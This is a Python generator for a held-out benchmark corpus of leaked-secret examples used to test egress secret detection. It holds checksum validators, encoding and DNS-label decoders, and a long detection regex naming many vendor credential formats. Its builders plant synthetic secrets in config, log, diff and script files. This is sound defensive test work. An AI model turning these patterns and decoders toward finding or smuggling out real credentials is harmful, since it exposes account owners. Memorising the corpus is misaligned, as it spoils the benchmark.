#!/usr/bin/env python3
"""Held-out egress secret-detection corpus, split 9.

Deterministic generator + checker.  Python 3 standard library only.
Usage:  python3 generate.py          # generate files, then run the checker
        python3 generate.py --check  # only run the checker
"""
import base64
import binascii
import gzip
import hashlib
import html
import json
import math
import os
import quopri
import random
import re
import string
import sys
import urllib.parse
import zlib
import struct

SEED = 90917231
HERE = os.path.dirname(os.path.abspath(__file__))
POS_FILE = os.path.join(HERE, "positives.jsonl")
NEG_FILE = os.path.join(HERE, "negatives.jsonl")
README_FILE = os.path.join(HERE, "README.md")

UP = string.ascii_uppercase
LO = string.ascii_lowercase
DI = string.digits
ALNUM = UP + LO + DI
B64C = ALNUM + "+/"
B64U = ALNUM + "-_"
HEXL = "0123456789abcdef"
B32L = "abcdefghijklmnopqrstuvwxyz234567"
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
B62 = DI + UP + LO


def rs(rng, n, alpha=ALNUM):
    return "".join(rng.choice(alpha) for _ in range(n))


def rhex(rng, n):
    return rs(rng, n, HEXL)


def rbytes(rng, n):
    return bytes(rng.randrange(256) for _ in range(n))


def uuid4(rng):
    h = rhex(rng, 32)
    h = h[:12] + "4" + h[13:16] + rng.choice("89ab") + h[17:]
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def b64(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.b64encode(data).decode()


def b64u(data, pad=False):
    if isinstance(data, str):
        data = data.encode()
    s = base64.urlsafe_b64encode(data).decode()
    return s if pad else s.rstrip("=")


def jd(obj, rng=None, indent=None):
    if rng is not None and indent is None:
        indent = rng.choice([None, None, 2])
    return json.dumps(obj, indent=indent)


def entropy(s):
    if not s:
        return 0.0
    c = {}
    for ch in s:
        c[ch] = c.get(ch, 0) + 1
    n = len(s)
    return -sum(v / n * math.log2(v / n) for v in c.values())


# ---------------------------------------------------------------- checksums
def luhn_ok(digits):
    s = 0
    for i, ch in enumerate(reversed(digits)):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        s += d
    return s % 10 == 0


def luhn_complete(prefix, length, rng):
    body = prefix + rs(rng, length - len(prefix) - 1, DI)
    for c in DI:
        if luhn_ok(body + c):
            return body + c
    raise AssertionError


IBAN_LEN = {
    "AD": 24, "AE": 23, "AL": 28, "AT": 20, "AZ": 28, "BA": 20, "BE": 16, "BG": 22, "BH": 22, "BR": 29,
    "CH": 21, "CR": 22, "CY": 28, "CZ": 24, "DE": 22, "DK": 18, "DO": 28, "EE": 20, "EG": 29, "ES": 24,
    "FI": 18, "FO": 18, "FR": 27, "GB": 22, "GE": 22, "GI": 23, "GL": 18, "GR": 27, "GT": 28, "HR": 21,
    "HU": 28, "IE": 22, "IL": 23, "IQ": 23, "IS": 26, "IT": 27, "JO": 30, "KW": 30, "KZ": 20, "LB": 28,
    "LI": 21, "LT": 20, "LU": 20, "LV": 21, "MC": 27, "MD": 24, "ME": 22, "MK": 19, "MR": 27, "MT": 31,
    "MU": 30, "NL": 18, "NO": 15, "PK": 24, "PL": 28, "PS": 29, "PT": 25, "QA": 29, "RO": 24, "RS": 22,
    "SA": 24, "SC": 31, "SE": 24, "SI": 19, "SK": 24, "SM": 27, "TN": 24, "TR": 26, "UA": 29, "VG": 24,
    "XK": 20,
}


def iban_num(s):
    return int("".join(str(int(ch, 36)) for ch in s))


def iban_ok(s):
    s = s.replace(" ", "").upper()
    cc = s[:2]
    if cc not in IBAN_LEN or len(s) != IBAN_LEN[cc]:
        return False
    if not re.fullmatch(r"[A-Z]{2}\d{2}[A-Z0-9]+", s):
        return False
    return iban_num(s[4:] + s[:4]) % 97 == 1


def iban_make(rng, cc):
    n = IBAN_LEN[cc] - 4
    if cc in ("GB", "IE"):
        bban = rs(rng, 4, UP) + rs(rng, n - 4, DI)
    elif cc in ("NL", "BG"):
        bban = rs(rng, 4, UP) + rs(rng, n - 4, DI)
    elif cc == "IT":
        bban = rng.choice(UP) + rs(rng, n - 1, DI)
    else:
        bban = rs(rng, n, DI)
    chk = 98 - iban_num(bban + cc + "00") % 97
    return "%s%02d%s" % (cc, chk, bban)


def b58encode(data):
    n = int.from_bytes(data, "big")
    out = ""
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    pad = len(data) - len(data.lstrip(b"\0"))
    return "1" * pad + out


def b58decode(s):
    n = 0
    for ch in s:
        n = n * 58 + B58.index(ch)
    pad = len(s) - len(s.lstrip("1"))
    body = n.to_bytes((n.bit_length() + 7) // 8, "big") if n else b""
    return b"\0" * pad + body


def dsha(b):
    return hashlib.sha256(hashlib.sha256(b).digest()).digest()


def b58check_encode(payload):
    return b58encode(payload + dsha(payload)[:4])


def b58check_ok(s):
    if not s or any(ch not in B58 for ch in s):
        return False
    raw = b58decode(s)
    if len(raw) < 5:
        return False
    return dsha(raw[:-4])[:4] == raw[-4:]


BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def bech_polymod(values):
    gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = ((chk & 0x1FFFFFF) << 5) ^ v
        for i in range(5):
            if (b >> i) & 1:
                chk ^= gen[i]
    return chk


def bech_hrp(h):
    return [ord(x) >> 5 for x in h] + [0] + [ord(x) & 31 for x in h]


def convertbits(data, fb, tb, pad=True):
    acc = 0
    bits = 0
    out = []
    maxv = (1 << tb) - 1
    for v in data:
        acc = (acc << fb) | v
        bits += fb
        while bits >= tb:
            bits -= tb
            out.append((acc >> bits) & maxv)
    if pad and bits:
        out.append((acc << (tb - bits)) & maxv)
    elif not pad and (bits >= fb or ((acc << (tb - bits)) & maxv)):
        return None
    return out


def segwit_encode(hrp, ver, prog):
    data = [ver] + convertbits(prog, 8, 5)
    const = 1 if ver == 0 else 0x2BC830A3
    pm = bech_polymod(bech_hrp(hrp) + data + [0] * 6) ^ const
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + "1" + "".join(BECH[d] for d in data + chk)


def segwit_ok(addr):
    a = addr.lower()
    if addr != a and addr != addr.upper():
        return False
    if "1" not in a:
        return False
    pos = a.rfind("1")
    hrp, dp = a[:pos], a[pos + 1:]
    if hrp not in ("bc", "tb") or len(dp) < 6 or any(c not in BECH for c in dp):
        return False
    data = [BECH.index(c) for c in dp]
    const = bech_polymod(bech_hrp(hrp) + data)
    ver = data[0]
    if const not in (1, 0x2BC830A3):
        return False
    if (ver == 0) != (const == 1):
        return False
    prog = convertbits(data[1:-6], 5, 8, False)
    if prog is None or not (2 <= len(prog) <= 40) or ver > 16:
        return False
    if ver == 0 and len(prog) not in (20, 32):
        return False
    return True


def btc_ok(a):
    if a.lower().startswith(("bc1", "tb1")):
        return segwit_ok(a)
    if not b58check_ok(a):
        return False
    raw = b58decode(a)
    return len(raw) == 25 and raw[0] in (0, 5)


# Keccak-256 (original padding, as used by Ethereum)
KRC = [0x0000000000000001, 0x0000000000008082, 0x800000000000808A, 0x8000000080008000,
       0x000000000000808B, 0x0000000080000001, 0x8000000080008081, 0x8000000000008009,
       0x000000000000008A, 0x0000000000000088, 0x0000000080008009, 0x000000008000000A,
       0x000000008000808B, 0x800000000000008B, 0x8000000000008089, 0x8000000000008003,
       0x8000000000008002, 0x8000000000000080, 0x000000000000800A, 0x800000008000000A,
       0x8000000080008081, 0x8000000000008080, 0x0000000080000001, 0x8000000080008008]
KROT = [[0, 36, 3, 41, 18], [1, 44, 10, 45, 2], [62, 6, 43, 15, 61], [28, 55, 25, 21, 56], [27, 20, 39, 8, 14]]
M64 = (1 << 64) - 1


def _rol(v, n):
    n %= 64
    return ((v << n) | (v >> (64 - n))) & M64 if n else v


def keccak_f(s):
    for rnd in range(24):
        c = [s[x] ^ s[x + 5] ^ s[x + 10] ^ s[x + 15] ^ s[x + 20] for x in range(5)]
        d = [c[(x - 1) % 5] ^ _rol(c[(x + 1) % 5], 1) for x in range(5)]
        s = [s[i] ^ d[i % 5] for i in range(25)]
        b = [0] * 25
        for x in range(5):
            for y in range(5):
                b[y + 5 * ((2 * x + 3 * y) % 5)] = _rol(s[x + 5 * y], KROT[x][y])
        s = [b[i] ^ ((~b[(i % 5 + 1) % 5 + 5 * (i // 5)]) & b[(i % 5 + 2) % 5 + 5 * (i // 5)]) for i in range(25)]
        s[0] ^= KRC[rnd]
    return s


def keccak256(data):
    rate = 136
    p = bytearray(data) + b"\x01"
    while len(p) % rate:
        p += b"\x00"
    p[-1] |= 0x80
    st = [0] * 25
    for off in range(0, len(p), rate):
        for i in range(rate // 8):
            st[i] ^= int.from_bytes(p[off + 8 * i: off + 8 * i + 8], "little")
        st = keccak_f(st)
    return b"".join(st[i].to_bytes(8, "little") for i in range(4))


def eip55(addr_hex):
    a = addr_hex.lower()
    h = keccak256(a.encode()).hex()
    return "0x" + "".join(ch.upper() if ch.isalpha() and int(h[i], 16) >= 8 else ch for i, ch in enumerate(a))


def eth_ok(a):
    if not re.fullmatch(r"0x[0-9a-fA-F]{40}", a):
        return False
    body = a[2:]
    if body == body.lower() or body == body.upper():
        return True
    return eip55(body) == a


def gh_token(rng, prefix):
    ent = rs(rng, 30, ALNUM)
    c = zlib.crc32(ent.encode()) & 0xFFFFFFFF
    out = ""
    while c:
        c, r = divmod(c, 62)
        out = B62[r] + out
    return prefix + ent + out.rjust(6, "0")


def gh_ok(tok):
    m = re.fullmatch(r"gh[pousr]_([A-Za-z0-9]{30})([A-Za-z0-9]{6})", tok)
    if not m:
        return False
    c = zlib.crc32(m.group(1).encode()) & 0xFFFFFFFF
    out = ""
    while c:
        c, r = divmod(c, 62)
        out = B62[r] + out
    return out.rjust(6, "0") == m.group(2)


# ---------------------------------------------------------------- decoders (bytes -> list of bytes)
def _pad(t, m):
    return t + b"=" * (-len(t) % m)


def d_pct(b):
    return [urllib.parse.unquote_to_bytes(b)]


def d_form(b):
    return [urllib.parse.unquote_to_bytes(b.replace(b"+", b" "))]


def d_b64(b):
    out = []
    for m in re.finditer(rb"[A-Za-z0-9+/]{16,}={0,2}", b):
        t = m.group().rstrip(b"=")
        if len(t) % 4 == 1:
            t = t[:-1]
        try:
            out.append(base64.b64decode(_pad(t, 4), validate=True))
        except (binascii.Error, ValueError):
            pass
    return out


def d_b64url(b):
    out = []
    for m in re.finditer(rb"[A-Za-z0-9_-]{16,}={0,2}", b):
        t = m.group().rstrip(b"=")
        if len(t) % 4 == 1:
            t = t[:-1]
        try:
            out.append(base64.urlsafe_b64decode(_pad(t, 4)))
        except (binascii.Error, ValueError):
            pass
    return out


def d_b32(b):
    out = []
    for m in re.finditer(rb"[A-Za-z2-7]{16,}", b):
        t = m.group().upper()
        for cut in range(0, 3):
            u = t[: len(t) - cut]
            try:
                out.append(base64.b32decode(_pad(u, 8)))
                break
            except (binascii.Error, ValueError):
                pass
    return out


def d_gunzip(b):
    try:
        return [gzip.decompress(b)]
    except Exception:
        return []


def d_inflate(b):
    try:
        return [zlib.decompress(b)]
    except Exception:
        return []


def d_hex(b):
    out = []
    for m in re.finditer(rb"[0-9a-fA-F]{16,}", b):
        t = m.group()
        if len(t) % 2:
            t = t[:-1]
        out.append(bytes.fromhex(t.decode()))
    return out


def d_jsonesc(b):
    return [re.sub(rb"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)).encode("utf-8"), b)]


def d_html(b):
    return [html.unescape(b.decode("utf-8", "replace")).encode("utf-8")]


def d_qp(b):
    return [quopri.decodestring(b)]


def d_dns(b):
    out = []
    for m in re.finditer(rb"[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+){2,}", b):
        labels = m.group().split(b".")[:14]
        for i in range(len(labels)):
            for j in range(i + 1, len(labels)):
                out.append(b"".join(labels[i:j]))
    return out


def d_delimhex(b):
    out = []
    for m in re.finditer(rb"(?:(?:0[xX]|\\{1,2}x)?[0-9a-fA-F]{2}[\s,:\-]{0,2}){8,}", b):
        out.append(bytes.fromhex("".join(x.decode() for x in re.findall(rb"(?:0[xX]|\\{1,2}x)?([0-9a-fA-F]{2})", m.group()))))
    return out


DECODERS = {
    "pct": d_pct, "form": d_form, "b64": d_b64, "b64url": d_b64url, "b32": d_b32, "gunzip": d_gunzip,
    "inflate": d_inflate, "hex": d_hex, "jsonesc": d_jsonesc, "html": d_html, "qp": d_qp, "dns": d_dns,
    "delimhex": d_delimhex,
}
SCAN_DECODERS = ["pct", "form", "b64", "b64url", "gunzip", "inflate", "hex", "jsonesc", "html", "qp"]


def follow(blob, layers):
    blobs = [blob]
    for layer in layers:
        nxt = []
        for b in blobs:
            nxt.extend(DECODERS[layer](b))
        blobs = nxt[:4000]
    return blobs


def views(blob, depth=2):
    seen = {blob}
    out = [blob]
    frontier = [blob]
    for _ in range(depth):
        nxt = []
        for b in frontier:
            for name in SCAN_DECODERS:
                for v in DECODERS[name](b):
                    if v not in seen and len(v) >= 8:
                        seen.add(v)
                        nxt.append(v)
        out.extend(nxt[:300])
        frontier = nxt[:300]
    return out


# ---------------------------------------------------------------- accidental-secret scanner for negatives
VENDOR_RX = re.compile(
    r"(?<![A-Za-z0-9])(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,}|glpat-[A-Za-z0-9_-]{20,}|glrt-[A-Za-z0-9_-]{20,}"
    r"|glptt-[0-9a-f]{20,}|GR1348941[A-Za-z0-9_-]{20}|xox[abposre]-[0-9A-Za-z-]{10,}|[sr]k_(?:live|test)_[A-Za-z0-9]{16,}"
    r"|whsec_[A-Za-z0-9+/]{20,}|sk-(?:proj-|ant-|svcacct-)?[A-Za-z0-9_-]{20,}|AIza[0-9A-Za-z_-]{30,}|GOCSPX-[A-Za-z0-9_-]{20,}"
    r"|ya29\.[A-Za-z0-9_-]{20,}|1//0[A-Za-z0-9_-]{30,}|(?:AKIA|ASIA|AGPA|AIDA|AROA)[A-Z2-7]{16}|npm_[A-Za-z0-9]{30,}"
    r"|pypi-AgE[A-Za-z0-9_-]{20,}|rubygems_[0-9a-f]{40,}|dckr_pat_[A-Za-z0-9_-]{20,}|oy2[a-z0-9]{40,}|NRAK-[A-Z0-9]{20,}"
    r"|sntry[su]_[A-Za-z0-9_=+/-]{30,}|glsa_[A-Za-z0-9]{20,}|glc_[A-Za-z0-9+/=]{30,}|SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}"
    r"|key-[0-9a-f]{32}|pscale_(?:pw|tkn|oauth)_[A-Za-z0-9_-]{20,}|sbp_[0-9a-f]{30,}|sb_secret_[A-Za-z0-9_-]{20,}"
    r"|dapi[0-9a-f]{32}|hv[sb]\.[A-Za-z0-9_-]{20,}|[A-Za-z0-9]{14}\.atlasv1\.[A-Za-z0-9_-]{20,}|dp\.(?:st|pt|sa|ct)\.[A-Za-z0-9_.-]{20,}"
    r"|bkua_[0-9a-f]{30,}|hf_[A-Za-z]{30,}|gsk_[A-Za-z0-9]{40,}|r8_[A-Za-z0-9]{30,}|xai-[A-Za-z0-9]{40,}"
    r"|shp(?:at|ca|pa|ss)_[0-9a-fA-F]{32}|EAAA[A-Za-z0-9_-]{40,}|sq0(?:atp|csp)-[A-Za-z0-9_-]{20,}"
    r"|access_token\$production\$|lin_api_[A-Za-z0-9]{30,}|ntn_[A-Za-z0-9]{30,}|secret_[A-Za-z0-9]{40,}|ATATT3[A-Za-z0-9_=-]{40,}"
    r"|HRKU-[A-Za-z0-9_-]{30,}|do[por]_v1_[0-9a-f]{40,}|AccountKey=[A-Za-z0-9+/]{20,}|SharedAccessKey=[A-Za-z0-9+/]{20,}"
    r"|hooks\.slack\.com/services/T|discord(?:app)?\.com/api/webhooks/\d"
    r"|\d{8,10}:AA[A-Za-z0-9_-]{30,}|[A-Za-z0-9]{3}\dQ~[A-Za-z0-9_.~-]{30,}|IQoJb3JpZ2lu|FwoGZXIvYXdz"
    r"|eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.|[0-9a-f]{32}-us\d{1,2}(?![0-9]))")
SECRET_FIELD_RX = re.compile(
    r"(?i)(?:password|passwd|pwd|secret|token|api[_-]?key|apikey|access[_-]?key|private[_-]?key|client[_-]?secret|auth)"
    r"[\"']?\s*[:=]\s*[\"']?([^\s\"'<>,;&}\])]{12,})")
URL_USERINFO_RX = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*://[^/\s:@\"'<>]+:[^/\s@\"'<>]+@")
BASIC_RX = re.compile(r"(?i)\bbasic\s+([A-Za-z0-9+/]{8,}={0,2})")
HOST_RX = re.compile(r"https?://(?:[^/@\s\"']*@)?([A-Za-z0-9.-]+)")


def looks_random(v):
    if any(c in v for c in "*\u2022\u2026<>{}$%\\"):
        return False
    if re.fullmatch(r"[A-Za-z_$][A-Za-z0-9_$]*(?:\.[A-Za-z_$][A-Za-z0-9_$]*)+(?:\(.*)?", v):
        return False
    classes = sum(1 for a in (UP, LO, DI) if any(c in a for c in v))
    return len(v) >= 16 and entropy(v) >= 3.3 and classes >= 2


def hostname_suspicious(host):
    for lab in host.split("."):
        for piece in lab.split("-"):
            if len(piece) >= 16 and entropy(piece) >= 3.3 and any(c.isdigit() for c in piece) and any(c.isalpha() for c in piece):
                return True
    return False


def scan_text(t, is_hostname=False):
    hits = []
    for m in re.finditer(r"(?<![0-9])(\d[\d -]{11,22}\d)(?![0-9])", t):
        for run in {m.group(1), m.group(1).replace(" ", "").replace("-", "")}:
            d = run.replace(" ", "").replace("-", "")
            if d.isdigit() and 13 <= len(d) <= 19 and luhn_ok(d) and (run == d or re.fullmatch(r"\d{4}([ -])\d{4}\1\d{4}\1\d{1,7}", run)):
                hits.append("luhn:" + run)
    for m in re.finditer(r"(?<![0-9])\d{13,19}(?![0-9])", t):
        if luhn_ok(m.group()):
            hits.append("luhn:" + m.group())
    for m in re.finditer(r"(?<![A-Z0-9])([A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){2,7}(?: ?[A-Z0-9]{1,4})?)(?![A-Z0-9])", t):
        if iban_ok(m.group(1)):
            hits.append("iban:" + m.group(1))
    for m in re.finditer(r"(?<![A-Za-z0-9])[13][1-9A-HJ-NP-Za-km-z]{24,34}(?![A-Za-z0-9])", t):
        if btc_ok(m.group()):
            hits.append("btc:" + m.group())
    for m in re.finditer(r"(?i)(?<![a-z0-9])(?:bc|tb)1[a-z0-9]{8,87}(?![a-z0-9])", t):
        if segwit_ok(m.group()):
            hits.append("bech32:" + m.group())
    for m in re.finditer(r"(?<![0-9A-Za-z])0x[0-9a-fA-F]{40}(?![0-9A-Za-z])", t):
        hits.append("eth:" + m.group())
    for m in VENDOR_RX.finditer(t):
        hits.append("vendor:" + m.group())
    for m in re.finditer(r"[?&;]sig=[A-Za-z0-9%+/]{20,}", t):
        hits.append("vendor:" + m.group())
    for m in BASIC_RX.finditer(t):
        try:
            dec = base64.b64decode(_pad(m.group(1).rstrip("=").encode(), 4)).decode("ascii")
            if ":" in dec and dec.isprintable():
                hits.append("basic:" + dec)
        except Exception:
            pass
    for m in URL_USERINFO_RX.finditer(t):
        hits.append("userinfo:" + m.group())
    for m in SECRET_FIELD_RX.finditer(t):
        if looks_random(m.group(1)):
            hits.append("field:" + m.group())
    hosts = HOST_RX.findall(t)
    if is_hostname:
        hosts.append(t.strip())
    for h in hosts:
        if hostname_suspicious(h):
            hits.append("host:" + h)
    return hits


def scan_blob(blob, is_hostname=False):
    hits = []
    for v in views(blob):
        hits.extend(scan_text(v.decode("latin-1"), is_hostname and v is blob))
    return hits


# ---------------------------------------------------------------- shared filler
WORDS = ("orders billing inventory search reports analytics gateway worker scheduler ingest notify profile catalog "
         "ledger payments checkout metrics backup export sync crawler indexer renderer uploader").split()
PEOPLE = ["alice", "bob", "carol", "dmitri", "erin", "farah", "gustavo", "hana", "ivan", "jun", "kofi", "lena", "mateo", "nadia", "olu", "priya"]
ORGS = ["acme", "globex", "initech", "umbrella", "hooli", "vandelay", "stark-labs", "wayne-ent", "tyrell", "cyberdyne"]
CITIES = ["Berlin", "Lisbon", "Austin", "Osaka", "Nairobi", "Toronto", "Lyon", "Porto", "Seoul", "Denver"]


def benign_env_lines(rng):
    pool = ["NODE_ENV=production", "PORT=%d" % rng.choice([3000, 8000, 8080, 5000]), "LOG_LEVEL=%s" % rng.choice(["info", "debug", "warn"]),
            "APP_NAME=%s-%s" % (rng.choice(ORGS), rng.choice(WORDS)), "REGION=%s" % rng.choice(["us-east-1", "eu-west-1", "ap-southeast-2"]),
            "FEATURE_NEW_UI=%s" % rng.choice(["true", "false"]), "WORKERS=%d" % rng.randint(2, 16), "TZ=UTC",
            "CACHE_TTL_SECONDS=%d" % rng.choice([60, 300, 3600]), "PUBLIC_URL=https://%s.example.com" % rng.choice(WORDS)]
    rng.shuffle(pool)
    return pool[: rng.randint(2, 5)]


def pick(rng, seq):
    return rng.choice(list(seq))


# ---------------------------------------------------------------- document builders: (rng, s, c) -> (text, layers, ctype, fname)
def doc_env(rng, s, c):
    lines = benign_env_lines(rng)
    q = rng.choice(["", '"', "'"]) if re.fullmatch(r"[A-Za-z0-9_./+=:@-]+", s) else '"'
    lines.insert(rng.randint(0, len(lines)), "%s=%s%s%s" % (c["var"], q, s, q))
    if rng.random() < 0.4:
        lines.insert(0, "# %s service configuration" % rng.choice(WORDS))
    return "\n".join(lines) + "\n", [], "text/plain", rng.choice([".env", ".env.production", "config/.env.local", "deploy/app.env"])


def doc_shell(rng, s, c):
    t = "#!/usr/bin/env bash\nset -euo pipefail\n\nexport %s='%s'\n" % (c["var"], s)
    t += "curl -fsS -X %s \"https://%s/%s\" -H \"Content-Type: application/json\" -d @payload.json\n" % (
        rng.choice(["GET", "POST"]), c["host"], rng.choice(["v1/status", "api/v2/jobs", "v1/items?limit=20"]))
    return t, [], "text/x-shellscript", rng.choice(["deploy.sh", "scripts/bootstrap.sh", "run_sync.sh"])


def doc_yaml(rng, s, c):
    t = "%s:\n  name: %s\n  endpoint: https://%s\n  timeout_seconds: %d\n  %s: \"%s\"\n  retries: %d\n" % (
        rng.choice(WORDS), rng.choice(ORGS), c["host"], rng.choice([10, 30, 60]), c["key"], s, rng.randint(1, 5))
    return t, [], "application/yaml", rng.choice(["config.yaml", "settings.yml", "values.yaml", "app/config/prod.yml"])


def doc_toml(rng, s, c):
    t = "[%s]\nurl = \"https://%s\"\n%s = \"%s\"\nverify_tls = true\n\n[logging]\nlevel = \"%s\"\n" % (
        rng.choice(WORDS), c["host"], c["key"], s, rng.choice(["info", "warn"]))
    return t, [], "application/toml", rng.choice(["config.toml", "pyproject.local.toml", "settings.toml"])


def doc_ini(rng, s, c):
    t = "[default]\nregion = %s\n%s = %s\noutput = json\n" % (rng.choice(["us-east-1", "eu-central-1"]), c["key"], s)
    return t, [], "text/plain", rng.choice(["credentials", "app.ini", "settings.cfg"])


def doc_xml(rng, s, c):
    if rng.random() < 0.5:
        t = '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <appSettings>\n    <add key="Endpoint" value="https://%s" />\n    <add key="%s" value="%s" />\n  </appSettings>\n</configuration>\n' % (c["host"], c["var"], s)
    else:
        t = '<settings>\n  <server id="%s">\n    <url>https://%s</url>\n    <%s>%s</%s>\n  </server>\n</settings>\n' % (rng.choice(WORDS), c["host"], c["key"], s, c["key"])
    return t, [], "application/xml", rng.choice(["web.config", "settings.xml", "App.config"])


def doc_props(rng, s, c):
    t = "app.name=%s\nserver.port=%d\n%s.%s=%s\nlogging.level.root=INFO\n" % (rng.choice(WORDS), rng.choice([8080, 9090]), rng.choice(WORDS), c["key"], s)
    return t, [], "text/plain", "application.properties"


def doc_jsoncfg(rng, s, c):
    obj = {"service": rng.choice(WORDS), "endpoint": "https://" + c["host"], "credentials": {c["key"]: s}, "timeout": rng.choice([5, 10, 30])}
    return jd(obj, rng), [], "application/json", rng.choice(["config.json", "secrets.json", "appsettings.json", ".vscode/settings.json"])


def doc_diff(rng, s, c):
    f = rng.choice(["src/config.py", "app/settings.js", "lib/client.rb", "internal/cfg/cfg.go"])
    t = "diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -%d,6 +%d,7 @@\n DEBUG = False\n-%s = os.environ.get(\"%s\")\n+%s = \"%s\"\n TIMEOUT = 30\n" % (
        f, f, rhex(rng, 7), rhex(rng, 7), f, f, rng.randint(3, 90), rng.randint(3, 90), c["var"], c["var"], c["var"], s)
    return t, [], "text/x-diff", "patch.diff"


def doc_trace(rng, s, c):
    t = ("Traceback (most recent call last):\n  File \"/app/%s.py\", line %d, in <module>\n    main()\n"
         "  File \"/app/client.py\", line %d, in request\n    resp.raise_for_status()\n"
         "    locals: url='https://%s/v1/%s' headers={'Accept': 'application/json', '%s': '%s'}\n"
         "requests.exceptions.HTTPError: 401 Client Error: Unauthorized\n") % (
        rng.choice(WORDS), rng.randint(10, 300), rng.randint(10, 300), c["host"], rng.choice(WORDS), c["key"], s)
    return t, [], "text/plain", "error.log"


def doc_log(rng, s, c):
    lines = []
    for _ in range(rng.randint(1, 3)):
        lines.append("2024-%02d-%02dT%02d:%02d:%02d.%03dZ INFO  %s request id=%s status=200" % (
            rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59), rng.randint(0, 999), rng.choice(WORDS), uuid4(rng)))
    hdr = fill(rng, c["hdr"][0], s, s) if c.get("hdr") else "%s=%s" % (c["key"], s)
    lines.insert(rng.randint(0, len(lines)), "2024-%02d-%02dT%02d:%02d:%02dZ DEBUG http.client send: POST https://%s/v1/%s headers: %s" % (
        rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59), c["host"], rng.choice(WORDS), hdr))
    return "\n".join(lines) + "\n", [], "text/plain", "app.log"


def doc_k8s(rng, s, c):
    name = "%s-%s" % (rng.choice(WORDS), rng.choice(["secret", "creds", "config"]))
    if rng.random() < 0.5:
        t = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: %s\n  namespace: %s\ntype: Opaque\nstringData:\n  %s: \"%s\"\n" % (name, rng.choice(["default", "prod", "apps"]), c["var"], s)
        return t, [], "application/yaml", "secret.yaml"
    t = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: %s\ntype: Opaque\ndata:\n  %s: %s\n" % (name, c["var"], b64(s))
    return t, ["b64"], "application/yaml", "secret.yaml"


def doc_tf(rng, s, c):
    t = 'provider "%s" {\n  region = "%s"\n  %s = "%s"\n}\n\nresource "%s_%s" "main" {\n  name = "%s"\n}\n' % (
        rng.choice(["acme", "vendor", "cloud"]), rng.choice(["us-east-1", "eu-west-1"]), c["key"], s, rng.choice(["acme", "vendor"]), rng.choice(WORDS), rng.choice(WORDS))
    return t, [], "text/plain", "main.tf"


def doc_docker(rng, s, c):
    t = "FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n%s %s=%s\nCOPY . .\nCMD [\"python\", \"main.py\"]\n" % (
        rng.choice(["ENV", "ARG"]), c["var"], s)
    return t, [], "text/plain", "Dockerfile"


def doc_compose(rng, s, c):
    t = "services:\n  %s:\n    image: %s/%s:%d.%d\n    environment:\n      - %s=%s\n      - LOG_LEVEL=info\n    ports:\n      - \"%d:%d\"\n" % (
        rng.choice(WORDS), rng.choice(ORGS), rng.choice(WORDS), rng.randint(1, 9), rng.randint(0, 20), c["var"], s, 8080, 8080)
    return t, [], "application/yaml", "docker-compose.yml"


def doc_nb(rng, s, c):
    obj = {"cells": [{"cell_type": "code", "execution_count": rng.randint(1, 40), "metadata": {}, "outputs": [],
                      "source": ["import os\n", "os.environ[\"%s\"] = \"%s\"\n" % (c["var"], s), "client = Client()\n"]}],
           "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}
    return jd(obj, rng), [], "application/x-ipynb+json", "analysis.ipynb"


def doc_py(rng, s, c):
    t = "import requests\n\n%s = \"%s\"\n\ndef fetch(path):\n    return requests.get(f\"https://%s/{path}\", headers={\"%s\": %s}, timeout=10)\n" % (
        c["var"], s, c["host"], c["key"], c["var"])
    return t, [], "text/x-python", rng.choice(["client.py", "sync.py", "tools/fetch.py"])


def doc_js(rng, s, c):
    t = "const client = new Client({\n  baseURL: 'https://%s',\n  %s: '%s',\n});\nexport default client;\n" % (c["host"], re.sub(r"_(\w)", lambda m: m.group(1).upper(), c["key"]), s)
    return t, [], "text/javascript", rng.choice(["src/client.js", "lib/api.ts"])


def doc_sql(rng, s, c):
    t = "INSERT INTO integrations (id, provider, %s, created_at) VALUES (%d, '%s', '%s', '2024-%02d-%02d');\n" % (
        c["key"], rng.randint(1, 9999), rng.choice(WORDS), s, rng.randint(1, 12), rng.randint(1, 28))
    return t, [], "application/sql", "seed.sql"


def doc_csv(rng, s, c):
    rows = ["service,owner,%s,expires" % c["key"]]
    for _ in range(rng.randint(0, 2)):
        rows.append("%s,%s,,2025-%02d-01" % (rng.choice(WORDS), rng.choice(PEOPLE), rng.randint(1, 12)))
    rows.insert(rng.randint(1, len(rows)), "%s,%s,%s,2025-%02d-01" % (rng.choice(WORDS), rng.choice(PEOPLE), s, rng.randint(1, 12)))
    return "\n".join(rows) + "\n", [], "text/csv", "keys.csv"


def doc_gha(rng, s, c):
    t = "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      %s: %s\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./deploy.sh\n" % (c["var"], s)
    return t, [], "application/yaml", ".github/workflows/deploy.yml"


